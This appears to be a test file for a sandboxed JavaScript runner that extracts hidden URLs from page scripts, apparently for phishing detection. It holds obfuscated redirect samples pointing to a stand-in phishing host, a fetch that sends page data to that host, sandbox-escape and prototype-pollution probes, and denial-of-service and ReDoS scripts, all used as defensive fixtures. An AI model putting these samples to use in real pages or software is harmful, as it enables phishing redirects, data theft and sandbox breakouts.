import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { Allowance } from '../../budget.ts';
import { runScripts } from './run-scripts.ts';

const TARGET = 'https://evil.example/login';
const codes = [...TARGET].map((char) => char.charCodeAt(0));
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const mixed = (key: string): string => base64(codes.map((code, at) => String.fromCharCode(code ^ key.charCodeAt(at % key.length))).join(''));
const texts = (...scripts: string[]): string[] => runScripts(scripts, new Allowance(3_000_000)).constants.map(({ text }) => text);

const HIDDEN: Record<string, string> = {
  'a loop that changes each character': `var a=[${codes.map((code) => code ^ 42)}],k=42,s='';for(var i=0;i<a.length;i++){s+=String.fromCharCode(a[i]^k)}location.href=s`,
  'a function with a key of its own': `function d(s,k){var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return r}location.replace(d(atob('${mixed('secret')}'),'secret'))`,
  'pieces written one after the other': `document.write('<a href="https://evil.ex');document.write('ample/login">x</a>')`,
  'an object': `const o={a:'https://evil',b:'.example/login'};window.open(o['a']+o.b)`,
  'arguments of functions': `const join=(a,b)=>a+b;function go(h){location.href=join('https://',h)+'/login'}go('evil.example')`,
  'expressions in a template': `const p=['evil','example'];location.href=\`https://\${p.join('.')}/\${'log'+'in'}\``,
  'places in an alphabet': `var a='abcdefghijklmnopqrstuvwxyz:/.',s='';for(var n of [${[...TARGET].map((char) => 'abcdefghijklmnopqrstuvwxyz:/.'.indexOf(char))}])s+=a[n];location=s`,
  'a table that is turned first': `var t=['evil','.example','/login','href','https://'];(function(a,n){while(--n){a.push(a.shift())}})(t,6);var f=function(i){return t[i-0x10]};location[f(0x13)]=f(0x14)+f(0x10)+f(0x11)+f(0x12)`,
  'a table that is turned until a sum fits': `function t(){var a=['1x','https://','evil.example/login','7x'];t=function(){return a};return t()}function g(i){var a=t();g=function(i){return a[i]};return g(i)}(function(){while(true){try{if(parseInt(g(0))*1+parseInt(g(1))===8)break;else t().push(t().shift())}catch(e){t().push(t().shift())}}})();location=g(2)+g(3)`,
  'another name for a function': `var d=window['at'+'ob'];location=d('${base64(TARGET)}')`,
  'a function made of text': `[]['filter']['constructor'](atob('${base64(`location='${TARGET}'`)}'))()`,
  'text run later': `setTimeout("location='https://evil'+'.example/login'",10)`,
  'what an event calls': `document.addEventListener('click',function(){window.open('https://evil.'+'example/login')})`,
  'what nobody calls in sight': `function clicked(){var u='https://';u+='evil.example';u+='/login';location=u}`,
  'octets decoded': `location=new TextDecoder().decode(Uint8Array.from(atob('${base64(TARGET)}'),c=>c.charCodeAt(0)))`,
  'a list filled step by step': `var p=[];p.push('https://');p.push('evil.example');p.push('/login');location=p.join('')`,
  'a flattened flow': `var o='2|0|1'.split('|'),i=0,u;while(true){switch(o[i++]){case'0':u+='evil.example';continue;case'1':location=u+'/login';continue;case'2':u='https://';continue}break}`,
};

describe('scripts that are run', () => {
  for (const [name, script] of Object.entries(HIDDEN)) {
    it(`give what is hidden by ${name}`, () => {
      assert.ok(
        texts(script).some((text) => text.includes(TARGET)),
        texts(script).join('\n'),
      );
    });
  }

  it('share their names, as those of one page do', () => {
    assert.ok(texts("var host='evil.example'", "location='https://'+host+'/login'").includes(TARGET));
  });

  it('keep what is known where the rest depends on the reader', () => {
    assert.deepEqual(texts("fetch('https://evil.example/?user=' + document.title)"), ['https://evil.example/?user=']);
    assert.deepEqual(texts("document.write('<a href=\"https://evil.example/' + name + '\">x</a>')"), ['<a href="https://evil.example/">x</a>']);
  });

  it('reach nothing of ours', () => {
    for (const script of [
      "location = [].constructor.constructor('return process')()",
      "location = ''.constructor.constructor('return this')().process.env.HOME",
      "var o = {}; o.__proto__.polluted = 'yes'; o['constructor']['prototype']['polluted'] = 'yes'",
      "location = new Error().stack + import('node:fs')",
    ]) {
      assert.deepEqual(
        texts(script).filter((text) => text.includes('/home') || text.includes('at ')),
        [],
      );
    }
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});

describe('the bounds of running', () => {
  const ALIKE = `var t='a'.repeat(300000),w='a'.repeat(75000)+'b'+'a'.repeat(75000);`;
  const ENDS = `var x=('a'.repeat(300000)+'b').slice(0),y=('a'.repeat(300000)+'c').slice(0);`;
  const ENDLESS: Record<string, string> = {
    'a loop': 'for(;;){}',
    'loops in loops': 'for(;;)for(;;)for(;;){}',
    'a string that doubles': 'var a="x";for(;;){a+=a;a.charAt(0)}',
    'a list that doubles': 'var a=[1];for(;;)a=[...a,...a]',
    recursion: 'function f(){return f()+f()}f()',
    'code that makes code': 'var s="1";for(;;){s="eval("+JSON.stringify(s)+")";eval(s)}',
    'repetitions in a pattern': 'var a="a".repeat(1000000);for(;;)a.replace(/a{1,9}a{1,9}a{1,9}b/g,"b")',
    'a pattern whose weight is beyond 32 bits': `"a".repeat(250000).replace(/a{9}a{9}a{9}/,"")`,
    'a text sought where almost all of it is everywhere': `${ALIKE}t.indexOf(w)`,
    'a text split where it almost ends everywhere': `${ALIKE}t.split(w)`,
    'a text replaced that is almost everywhere': `${ALIKE}t.replace(w,"")`,
    'long texts that differ at their end, chosen from': `${ENDS}for(var i=0;i<20000;i++)switch(x){case y:break}`,
    'long texts that differ at their end, in a list': `${ENDS}new Array(200000).fill(y).indexOf(x)`,
    'long texts that differ at their end, in order': `${ENDS}var l=[];for(var i=0;i<5000;i++)l.push(i%2?x:y);l.sort()`,
    'a pattern without bounds': '/(a+)+$/.test("a".repeat(50)+"!")||f();for(;;){}',
  };
  for (const [name, script] of Object.entries(ENDLESS)) {
    it(`end ${name}, and what comes behind it is still run`, () => {
      const { constants, complete } = runScripts([script, `location='https://evil.'+'example/login'`], new Allowance(300_000));
      assert.equal(complete, false);
      assert.ok(constants.some(({ text }) => text === TARGET) || /doubles|code/.test(name));
    });
  }

  it('a list is written out where that costs little: lists in lists of long texts would take a gigabyte at one step', () => {
    assert.deepEqual(texts("location=['https://evil','example/login']+''"), ['https://evil,example/login']);
    assert.deepEqual(texts("location=[['https://evil.example/'+'x'.repeat(9000)]]+''"), [`https://evil.example/${'x'.repeat(9000)}`]);
    assert.deepEqual(texts("var a=['x'.repeat(4000),'y'.repeat(4000)];location='https://evil.example/'+[a,a]"), ['https://evil.example/']);
  });

  it('what nests deeper than can be gone into is passed over', () => {
    for (const script of [
      '('.repeat(50_000),
      `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
      `a=${'"x"+'.repeat(30_000)}1`,
      `${'!'.repeat(30_000)}1`,
      '`${'.repeat(9_000),
    ])
      assert.ok(Array.isArray(texts(script)));
  });

  it('no script makes it throw', () => {
    const pieces = [
      ...Object.values(HIDDEN).flatMap((script) => script.match(/[\w$]+|\W/g) ?? []),
      'class',
      'yield',
      'await',
      'new',
      '...',
      '=>',
      '?.',
      '/x/g',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (script) => {
        runScripts([script.join('')], new Allowance(20_000));
      }),
      { numRuns: 500 },
    );
  });
});
